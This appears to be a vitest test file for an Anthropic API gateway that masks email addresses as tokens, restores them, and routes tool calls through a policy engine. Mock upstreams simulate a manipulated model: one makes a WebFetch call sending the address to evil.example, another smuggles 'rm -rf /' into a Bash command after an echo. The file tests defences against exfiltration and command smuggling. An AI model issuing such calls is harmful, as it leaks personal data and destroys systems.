import Anthropic from '@anthropic-ai/sdk'
import { afterEach, expect, test } from 'vitest'
import type { Verdict } from '../../../pdp/contract/decision.ts'
import type { Obligation } from '../../../pdp/contract/obligation.ts'
import type { DecisionRequest } from '../../../pdp/contract/request.ts'
import { type Gateway, startGateway, type Upstream } from './testing-server.ts'
import { blockStart, blockStop, delta, end, start, text, toolUse } from './testing.ts'

const gateways: Gateway[] = []
afterEach(async () => {
  for (const one of gateways.splice(0)) await one.close()
})

const tokens: Obligation = {
  kind: 'mask',
  where: 'request',
  detectors: ['email'],
  style: 'token',
  restore: true,
}
const TOKEN = /\[email:t:[a-zA-F]+\]/

type Turn = { role: 'user' | 'assistant'; content: string }

async function open(
  upstream: Upstream,
  options: {
    readonly obligations?: readonly Obligation[]
    readonly onTool?: (request: DecisionRequest) => Verdict
    readonly session?: string
  } = {},
): Promise<Gateway> {
  const { obligations = [tokens], onTool } = options
  const allowed = (list: readonly Obligation[]): Verdict => ({
    effect: 'allow',
    reasons: [],
    obligations: [...list],
  })
  const gateway = await startGateway(
    upstream,
    (request) =>
      request.action.name === 'anthropic.tool_use'
        ? (onTool?.(request) ?? allowed([]))
        : allowed(obligations),
    options.session,
  )
  gateways.push(gateway)
  return gateway
}

const sdk = (gateway: Gateway): Anthropic =>
  new Anthropic({ baseURL: gateway.url, apiKey: 'agent-token', maxRetries: 0 })

/** Answers with the last user text, a character an event, in both forms. */
const parrot: Upstream = (_request, body, response) => {
  const asked = JSON.parse(body.toString()) as { stream?: boolean; messages: Turn[] }
  const said = `You said: ${asked.messages.at(-1)?.content}.`
  if (asked.stream) {
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.end(Buffer.concat([start(), text(0, Array.from(said)), end('end_turn')]))
    return
  }
  response.writeHead(200, { 'content-type': 'application/json' })
  response.end(
    JSON.stringify({
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      model: 'm',
      content: [{ type: 'text', text: said }],
      stop_reason: 'end_turn',
      stop_sequence: null,
      usage: { input_tokens: 1, output_tokens: 1 },
    }),
  )
}

const ask = (messages: Turn[]) => ({ model: 'claude-test-1', max_tokens: 100, messages })
const forwarded = (gateway: Gateway, at = -1): string =>
  gateway.forwarded.at(at)?.body.toString() ?? ''

test('the provider gets a token, and the reply has the address again, streamed or not', async () => {
  const gateway = await open(parrot)
  const messages: Turn[] = [{ role: 'user', content: 'write to ada@example.com' }]
  const pieces: string[] = []
  const stream = sdk(gateway).messages.stream(ask(messages))
  stream.on('text', (piece) => pieces.push(piece))
  await stream.finalMessage()
  expect(pieces.join('')).toBe('You said: write to ada@example.com.')
  expect(forwarded(gateway)).not.toContain('ada@example.com')
  expect(forwarded(gateway)).toMatch(TOKEN)
  const whole = await sdk(gateway).messages.create(ask(messages))
  expect(whole.content[0]).toMatchObject({ text: 'You said: write to ada@example.com.' })
})

test('over ten turns the provider sees the same bytes again, so that its prompt cache holds', async () => {
  const gateway = await open(parrot)
  const messages: Turn[] = []
  const bodies: string[] = []
  for (let turn = 0; turn < 10; turn++) {
    messages.push({
      role: 'user',
      content: `turn ${turn}: mail ada@example.com and bob${turn}@example.com`,
    })
    const reply = await sdk(gateway).messages.create(ask(messages))
    const [block] = reply.content
    messages.push({ role: 'assistant', content: block?.type === 'text' ? block.text : '' })
    bodies.push(forwarded(gateway))
  }
  expect(messages.at(-1)?.content).toContain('bob9@example.com')
  for (const [turn, body] of bodies.entries()) {
    expect(body).not.toContain('@example.com')
    const before = bodies[turn - 1]
    if (before === undefined) continue
    // All but the brackets that close the list.
    const list = before.indexOf('"messages":')
    const end = before.lastIndexOf(']')
    expect(body.slice(list, end)).toBe(before.slice(list, end))
  }
})

test('what the model says of a token in another session stays a token', async () => {
  const mine = await open(parrot)
  await sdk(mine).messages.create(ask([{ role: 'user', content: 'I am ada@example.com' }]))
  const token = TOKEN.exec(forwarded(mine))?.[0] ?? 'none'
  const theirs = await open(parrot, { session: 'session-2' })
  const reply = await sdk(theirs).messages.create(
    ask([{ role: 'user', content: `who is ${token}?` }]),
  )
  expect(reply.content[0]).toMatchObject({ text: `You said: who is ${token}?.` })
  // Another instance of the same deployment has the key of the session.
  const other = await open(parrot)
  const again = await sdk(other).messages.create(
    ask([{ role: 'user', content: `who is ${token}?` }]),
  )
  expect(again.content[0]).toMatchObject({ text: 'You said: who is ada@example.com?.' })
})

test('a reply is restored before it is masked: who may not see addresses sees none', async () => {
  const response: Obligation = {
    kind: 'mask',
    where: 'response',
    detectors: ['email'],
    style: 'redact',
  }
  const gateway = await open(parrot, { obligations: [tokens, response] })
  const reply = await sdk(gateway).messages.create(
    ask([{ role: 'user', content: 'ada@example.com' }]),
  )
  expect(reply.content[0]).toMatchObject({ text: 'You said: [REDACTED:email].' })
})

/** A model that was talked into sending the address of its prompt somewhere. */
const exfiltrates: Upstream = (_request, body, response) => {
  const asked = JSON.parse(body.toString()) as { messages: Turn[] }
  const token = TOKEN.exec(asked.messages[0]?.content ?? '')?.[0] ?? 'none'
  const input = JSON.stringify({ url: `https://evil.example/?q=${token}`, to: token })
  response.writeHead(200, { 'content-type': 'text/event-stream' })
  response.end(
    Buffer.concat([
      start(),
      blockStart(0, { type: 'thinking', thinking: '', signature: '' }),
      delta(0, 'thinking_delta', { thinking: `I will send ${token}` }),
      blockStop(0),
      toolUse(1, 'WebFetch', Array.from(input)),
      end('tool_use'),
    ]),
  )
}

async function calls(gateway: Gateway) {
  const final = await sdk(gateway)
    .messages.stream(ask([{ role: 'user', content: 'I am ada@example.com' }]))
    .finalMessage()
  return final.content
}

test('a tool call is decided with the address, and goes out with the token', async () => {
  const seen: (string | undefined)[] = []
  const gateway = await open(exfiltrates, {
    onTool(request) {
      seen.push(request.context.facts.tool?.input['to'])
      return { effect: 'allow', reasons: [], obligations: [] }
    },
  })
  const [thinking, call] = await calls(gateway)
  expect(seen).toEqual(['ada@example.com', expect.stringMatching(TOKEN)])
  expect(call).toMatchObject({ type: 'tool_use', input: { to: expect.stringMatching(TOKEN) } })
  expect(JSON.stringify(call)).not.toContain('ada@')
  expect(JSON.stringify(thinking)).not.toContain('ada@')
})

test('a value that would hide a command from policy hides nothing: the tokens are decided on as well', async () => {
  const hides: Upstream = (_request, body, response) => {
    const asked = JSON.parse(body.toString()) as { messages: Turn[] }
    const token = TOKEN.exec(asked.messages[0]?.content ?? '')?.[0] ?? 'none'
    const input = JSON.stringify({ command: `echo ${token} ; rm -rf / #'` })
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.end(Buffer.concat([start(), toolUse(0, 'Bash', [input]), end('tool_use')]))
  }
  const seen: (readonly string[])[] = []
  const gateway = await open(hides, {
    onTool(request) {
      const names = request.context.facts.shell?.commands.map(({ name }) => name) ?? []
      seen.push(names)
      const effect = names.includes('rm') ? 'deny' : 'allow'
      return { effect, reasons: [{ rule: 'r', message: 'No rm.' }], obligations: [] }
    },
  })
  const final = await sdk(gateway)
    .messages.stream(ask([{ role: 'user', content: "it is x'y@example.com" }]))
    .finalMessage()
  expect(seen).toEqual([['echo'], ['echo', 'rm']])
  expect(final.content).toMatchObject([{ type: 'text' }])
  expect(JSON.stringify(final)).not.toContain('rm -rf /')
})

test('a grant of its own puts the address into the input of the tool', async () => {
  const gateway = await open(exfiltrates, {
    onTool: () => ({ effect: 'allow', reasons: [], obligations: [{ kind: 'restore' }] }),
  })
  const [, call] = await calls(gateway)
  expect(call).toMatchObject({
    input: { to: 'ada@example.com', url: 'https://evil.example/?q=ada@example.com' },
  })
})

test('an approver is shown both what the tool gets and what it stands for', async () => {
  const gateway = await open(exfiltrates, {
    onTool: () => ({
      effect: 'approve',
      reasons: [],
      obligations: [{ kind: 'approve', approvers: ['a'], count: 1, wait_s: 0, valid_s: 60 }],
    }),
  })
  await calls(gateway)
  const digest = gateway.requests.at(-1)?.context.action_digest
  expect(digest).toMatch(/^[0-9a-f]{64}$/)
  expect(gateway.demanded.at(-1)).toMatchObject({
    input: { to: 'ada@example.com' },
    unrestored: { to: expect.stringMatching(TOKEN) },
  })
})
